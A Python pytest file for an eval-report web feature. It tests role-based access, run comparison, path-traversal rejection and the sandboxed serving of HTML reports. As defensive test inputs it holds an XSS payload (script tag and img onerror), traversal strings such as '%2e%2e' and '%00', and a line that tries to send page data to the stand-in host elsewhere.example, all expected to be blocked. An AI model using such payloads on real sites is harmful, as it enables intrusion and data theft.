"""Reports of evals for evaluators: over HTTP, and in a real browser with a report that tries to break out."""

from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI
from playwright.async_api import Error, Page, expect

from agent.settings import Settings
from api.app import create_app
from api.auth.sign_in import SignIn, build_sign_in
from api.reports import Evals
from api.tickets import Tickets
from evals.library import Library
from evals.record import Exchange, Record
from evals.report import write_report
from evals.results import SuiteResult
from tests.api.browsing import browsing, needs_chromium
from tests.api.fake import FakePlatform
from tests.api.test_desk_page import assert_accessible
from tests.evals.outcomes import outcome, result
from tests.evals.test_library import FIRST, SECOND, keep
from tools.sandbox.people import EMMA, demo_people

DAN, CARLA, ANNA, CUSTOMER = "evaluator-dan", "supervisor-carla", "agent-anna", EMMA.customer_id
RUNS, COMPARISON = "/v1/evals/runs", f"/v1/evals/comparison?a={FIRST}&b={SECOND}"
TICKET = f"{RUNS}/{SECOND}/ticket"
BREAKING_OUT = "<script>document.title = 'broken out'</script><img src=x onerror=\"document.title = 'broken out'\">"


def suite(passed: int) -> SuiteResult:
    said = Record(exchanges=[Exchange(said=BREAKING_OUT, reply=BREAKING_OUT, kind="answered")]).to_json()
    return result(*(outcome(f"case-{n:02d}", passed=n < passed, record=said) for n in range(12)))


@pytest.fixture
def runs(tmp_path: Path) -> Path:
    root = tmp_path / "evals"
    keep(root, FIRST, suite(12), breaches=[])
    write_report(keep(root, SECOND, suite(4), day=2, breaches=["selfservice: pass is 0.33, must be at least 0.9"]))
    (root / "20260103-120000" / "logs").mkdir(parents=True)
    (root / "20260104-120000").mkdir()
    (root / "20260104-120000" / "results.json").write_text("{")
    return root


@pytest.fixture
async def sign_in(tmp_path: Path) -> AsyncIterator[SignIn]:
    built = build_sign_in(Settings(home=tmp_path), demo_people())
    yield built
    await built.close()


@pytest.fixture
def app(sign_in: SignIn, tmp_path: Path) -> FastAPI:
    evals = Evals(library=Library(tmp_path / "evals"), tickets=Tickets(tmp_path / "tickets"))
    return create_app(FakePlatform(), sign_in, shown_evals=evals)


def bearer(sign_in: SignIn, subject: str) -> dict[str, str]:
    assert sign_in.development is not None
    return {"Authorization": f"Bearer {sign_in.development.token(subject)}"}


@pytest.fixture
def dan(sign_in: SignIn) -> dict[str, str]:
    return bearer(sign_in, DAN)


async def test_only_evaluators_and_supervisors_get_in(http: httpx.AsyncClient, sign_in: SignIn, runs: Path) -> None:
    for method, path in (("GET", RUNS), ("GET", COMPARISON), ("POST", TICKET)):
        for subject, status in ((DAN, 2), (CARLA, 2), (ANNA, 403), (CUSTOMER, 403), (None, 401)):
            answer = await http.request(method, path, headers=bearer(sign_in, subject) if subject else {})
            assert status in (answer.status_code, answer.status_code // 100), (path, subject)
            if answer.is_error:
                assert answer.headers["content-type"] == "application/problem+json"


async def test_runs_are_told_with_their_state_and_the_trend(
    http: httpx.AsyncClient, dan: dict[str, str], runs: Path
) -> None:
    told = (await http.get(RUNS, headers=dan)).json()
    states = {run["id"]: (run["state"], run["gate"], run["report"]) for run in told["runs"]}
    assert states == {
        FIRST: ("ended", "kept", False),
        SECOND: ("ended", "broken", True),
        "20260103-120000": ("unfinished", "none", False),
        "20260104-120000": ("broken", "none", False),
    }
    assert told["trends"][0]["change"]["verdict"] == "worse"
    assert "by_case" not in told["runs"][-1]["suites"][0]


async def test_two_runs_are_compared_as_the_command_does(
    http: httpx.AsyncClient, dan: dict[str, str], runs: Path
) -> None:
    (told,) = (await http.get(COMPARISON, headers=dan)).json()["suites"]
    assert (told["name"], told["cases"], len(told["lost"]), told["won"]) == ("selfservice", 12, 8, [])
    for a in (f"{FIRST}x", "20260103-120000", "20260104-120000", "..", "../evals"):
        answer = await http.get("/v1/evals/comparison", params={"a": a, "b": SECOND}, headers=dan)
        assert (answer.status_code, answer.json()["type"]) == (404, "urn:concierge:problem:not-found")


@pytest.mark.parametrize("name", [FIRST, "..", "%2e%2e", "..%2fevals", f"..%2fevals%2f{SECOND}", "%00", "seed"])
async def test_there_is_no_ticket_to_what_is_no_report(
    http: httpx.AsyncClient, dan: dict[str, str], runs: Path, name: str
) -> None:
    (runs.parent / "report.html").write_text("outside")
    answer = await http.post(f"{RUNS}/{name}/ticket", headers=dan)
    assert answer.status_code in {404, 405}
    assert answer.headers["content-type"] == "application/problem+json"


async def test_a_report_is_shown_once_in_a_sandbox_of_its_own(
    http: httpx.AsyncClient, dan: dict[str, str], runs: Path
) -> None:
    address = (await http.post(TICKET, headers=dan)).json()["address"]
    shown = await http.get(address)
    assert "selfservice" in shown.text
    assert shown.headers["content-type"] == "text/html; charset=utf-8"
    assert shown.headers["cache-control"] == "no-store"
    policy = dict(part.strip().partition(" ")[::2] for part in shown.headers["content-security-policy"].split(";"))
    assert (policy["sandbox"], policy["default-src"]) == ("allow-scripts", "'none'")
    assert policy["script-src"].startswith("'sha256-")
    assert (policy["frame-ancestors"], policy["form-action"], policy["base-uri"]) == ("'self'", "'none'", "'none'")
    assert (await http.get(address)).status_code == 404
    assert (await http.get(f"/evals/reports/{'x' * 43}")).status_code == 404


async def test_the_page_alone_may_hold_a_frame_of_ours(http: httpx.AsyncClient) -> None:
    policies = {path: (await http.get(path)).headers["content-security-policy"] for path in ("/evals", "/desk", "/")}
    assert policies["/evals"].endswith("; frame-src 'self'")
    assert "unsafe" not in policies["/evals"]
    assert not any("frame-src" in policies[path] for path in ("/desk", "/"))


async def test_without_runs_the_list_is_empty(http: httpx.AsyncClient, dan: dict[str, str]) -> None:
    assert (await http.get(RUNS, headers=dan)).json() == {"runs": [], "trends": [], "older": 0}


async def test_the_document_names_the_routes_of_evals(http: httpx.AsyncClient) -> None:
    paths = (await http.get("/openapi.json")).json()["paths"]
    assert {"401", "403", "404"} <= paths["/v1/evals/comparison"]["get"]["responses"].keys()
    assert {"201", "403", "404"} <= paths["/v1/evals/runs/{run_id}/ticket"]["post"]["responses"].keys()
    assert "text/html" in paths["/evals/reports/{ticket}"]["get"]["responses"]["200"]["content"]


@pytest.mark.browser
@needs_chromium
@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
async def test_an_evaluator_compares_two_runs_and_reads_the_report_of_one(server: str, runs: Path, dark: bool) -> None:
    async with browsing(server, dark=dark) as page:
        await page.goto("/dev/login")
        await page.get_by_role("button", name="Dan Fischer").click()
        await expect(page.locator(".trend-worse")).to_contain_text("0 won, 8 lost of 12")
        await expect(page.get_by_text("Cannot be read")).to_be_visible()
        await expect(page.get_by_text("Not finished")).to_be_visible()
        await expect(page.get_by_role("button", name="Compare")).to_be_disabled()
        for name in (SECOND, FIRST):
            await page.get_by_role("checkbox", name=name).focus()
            await page.keyboard.press("Space")
        await page.get_by_role("button", name="Compare").press("Enter")
        await expect(page.locator("#compared")).to_be_focused()
        await expect(page.get_by_role("row", name="selfservice")).to_contain_text("−66.7")
        await page.locator("#compared summary").click()
        await expect(page.locator("#compared")).to_contain_text("case-11")
        await assert_accessible(page)
        await page.get_by_role("button", name="Open the report").press("Enter")
        report = page.frame_locator("iframe")
        await expect(report.locator("#count")).to_have_text("12 of 12 shown")
        await report.get_by_label("only what did not pass").check()
        await expect(report.locator("#count")).to_have_text("8 of 12 shown")
        await page.get_by_role("button", name="Close the report").press("Enter")
        await expect(page.locator("iframe")).to_have_count(0)


@pytest.mark.browser
@needs_chromium
async def test_a_hostile_report_runs_nothing_and_reaches_nothing(server: str, runs: Path) -> None:
    """As if the report had let markup through that somebody wrote."""
    report = runs / SECOND / "report.html"
    report.write_text(report.read_text().replace("<body>", f"<body>{BREAKING_OUT}"))
    async with browsing(server, refused="Content Security Policy") as page:
        await entered(page, DAN)
        await page.get_by_role("button", name="Open the report").click()
        await expect(page.frame_locator("iframe").locator("#count")).to_have_text("12 of 12 shown")
        frame = page.frames[-1]
        assert await frame.title() == "Concierge evals"
        assert await frame.evaluate("origin") == "null"
        for reach in ("parent.document.title", "sessionStorage.length", "document.cookie", "top.location.href"):
            with pytest.raises(Error, match="SecurityError"):
                await frame.evaluate(reach)
        assert await frame.evaluate("fetch('/healthz').then(() => 'reached', () => 'refused')") == "refused"
        await frame.evaluate(
            "setTimeout(() => location = 'https://elsewhere.example/?' + document.body.innerText.length)"
        )
        await frame.wait_for_url("chrome-error://*/")
        assert "Evals" in await page.title()


@pytest.mark.browser
@needs_chromium
async def test_the_page_says_how_to_make_a_first_run_and_who_may_look(server: str) -> None:
    async with browsing(server, width=360, height=740) as page:
        await entered(page, CARLA)
        await expect(page.get_by_text("concierge eval run selfservice")).to_be_visible()
        await assert_accessible(page)
        assert await page.evaluate("document.documentElement.scrollWidth") == 360
        await page.get_by_role("button", name="Sign out Carla Nunes").click()
        await expect(page.get_by_role("heading", name="Evals are for evaluators")).to_be_visible()
        await entered(page, ANNA)
        await expect(page.get_by_text("Reports of evals are for evaluators and supervisors.")).to_be_visible()


@pytest.mark.browser
@needs_chromium
async def test_runs_and_their_comparison_fit_a_small_screen(server: str, runs: Path) -> None:
    async with browsing(server, width=360, height=740) as page:
        await entered(page, DAN)
        for name in (SECOND, FIRST):
            await page.get_by_role("checkbox", name=name).check()
        await page.get_by_role("button", name="Compare").click()
        await expect(page.locator("#compared")).to_contain_text("−66.7")
        await assert_accessible(page)
        assert await page.evaluate("document.documentElement.scrollWidth") == 360


async def entered(page: Page, subject: str) -> None:
    """Signed in without a look at the page where this person's work usually is."""
    await page.goto("/dev/login")
    await page.evaluate(_SIGN_IN, subject)
    await page.goto("/evals")


_SIGN_IN = """async (subject) => {
  const headers = { "Content-Type": "application/json" };
  const answer = await fetch("/dev/token", { method: "POST", headers, body: JSON.stringify({ subject }) });
  const { access_token: token, name, role } = await answer.json();
  sessionStorage.setItem("concierge.person", JSON.stringify({ token, name, role }));
}"""
